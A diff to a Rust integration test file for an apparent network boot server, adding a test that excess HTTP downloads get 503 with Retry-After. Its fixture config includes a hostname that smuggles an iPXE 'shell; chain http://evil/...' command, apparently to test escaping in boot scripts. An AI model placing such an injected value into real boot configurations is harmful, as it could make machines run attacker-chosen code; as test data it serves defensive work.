@@ -20,9 +20,14 @@ impl std::ops::Deref for Setup {
 }
 
 fn setup() -> Setup {
-    let kit = kit::Setup::new("http", |dir| {
+    setup_with("")
+}
+
+/// As [`setup`], with `http` keys added to `[http]`.
+fn setup_with(http: &'static str) -> Setup {
+    let kit = kit::Setup::new("http", move |dir| {
         format!(
-            "[server]\naddress = \"10.77.0.1\"\nstate_dir = \"{}\"\n[dhcp]\nsubnet = \"10.77.0.0/16\"\n[[dhcp.host]]\nmac = \"52:54:00:00:00:07\"\nip = \"10.77.0.7\"\nhostname = \"node-007\"\nvars = {{ rack = \"r1\", role = \"worker\" }}\n[[dhcp.host]]\nmac = \"52:54:00:00:00:66\"\nip = \"10.77.0.66\"\nhostname = \"x\\nshell; chain http://evil/${{a}}\"\nvars = {{ note = \"a b\\nc\" }}\n[http]\nlisten = \"0.0.0.0:8080\"\nroot = \"{}\"\nscript = \"boot.ipxe.j2\"\n",
+            "[server]\naddress = \"10.77.0.1\"\nstate_dir = \"{}\"\n[dhcp]\nsubnet = \"10.77.0.0/16\"\n[[dhcp.host]]\nmac = \"52:54:00:00:00:07\"\nip = \"10.77.0.7\"\nhostname = \"node-007\"\nvars = {{ rack = \"r1\", role = \"worker\" }}\n[[dhcp.host]]\nmac = \"52:54:00:00:00:66\"\nip = \"10.77.0.66\"\nhostname = \"x\\nshell; chain http://evil/${{a}}\"\nvars = {{ note = \"a b\\nc\" }}\n[http]\nlisten = \"0.0.0.0:8080\"\nroot = \"{}\"\nscript = \"boot.ipxe.j2\"\n{http}",
             dir.join("state").display(),
             dir.join("root").display()
         )
@@ -164,4 +169,39 @@ fn files_and_ranges_are_byte_exact_under_concurrency_and_dhcp_keeps_answering() 
             assert!(got == initrd[*a..=*b], "client {i}: range {a}-{b} differs ({} bytes)", got.len());
         }
     }
+}
+
+/// Issue 17's admission: with `http.max_downloads = 2`, a third file request while two files
+/// are being sent gets 503 with `Retry-After: 1` (what iPXE waits out, docs/BENCHMARKS.md);
+/// once they end, it is served. The two are held open by clients reading slowly.
+#[test]
+fn file_requests_over_max_downloads_are_told_to_come_back() {
+    if !require_root("file_requests_over_max_downloads_are_told_to_come_back") {
+        return;
+    }
+    let _serial = tests::serial();
+    let s = setup_with("max_downloads = 2\n");
+    std::fs::write(s.root.join("big.img"), pattern(64 << 20, 5)).unwrap();
+    let active = || s.agent.status().unwrap()["agent"]["http_downloads_active"].as_u64().unwrap_or(0);
+    let mut slow: Vec<std::process::Child> = (0..2)
+        .map(|_| {
+            // curl itself (bounded by --max-time), so that killing it closes its connection.
+            s.lab.client.command("curl").args(["-s", "--max-time", "60", "--limit-rate", "256k", "-o", "/dev/null", "http://10.77.0.1:8080/big.img"]).spawn().unwrap()
+        })
+        .collect();
+    assert!(tests::eventually(10, || active() == 2), "two downloads running: {}", s.agent.status().unwrap());
+    let third = s.lab.client.command("curl").args(["-s", "-o", "/dev/null", "-D", "-", "http://10.77.0.1:8080/vmlinuz"]).output().unwrap();
+    let head = String::from_utf8_lossy(&third.stdout).to_ascii_lowercase();
+    assert!(head.starts_with("http/1.1 503"), "{head}");
+    assert!(head.contains("retry-after: 1"), "{head}");
+    assert_eq!(s.agent.status().unwrap()["agent"]["http_downloads_deferred"].as_u64(), Some(1));
+    for c in &mut slow {
+        let _ = c.kill();
+        let _ = c.wait();
+    }
+    assert!(tests::eventually(10, || active() == 0), "the slow downloads ended: {}", s.agent.status().unwrap());
+    let out = s.dir.join("vmlinuz.again");
+    let again = s.lab.client.command("curl").args(["-s", "-f", "-o"]).arg(&out).arg("http://10.77.0.1:8080/vmlinuz").status().unwrap();
+    assert!(again.success());
+    assert_eq!(std::fs::read(&out).unwrap(), pattern(1 << 20, 9), "served whole once there was room");
 }
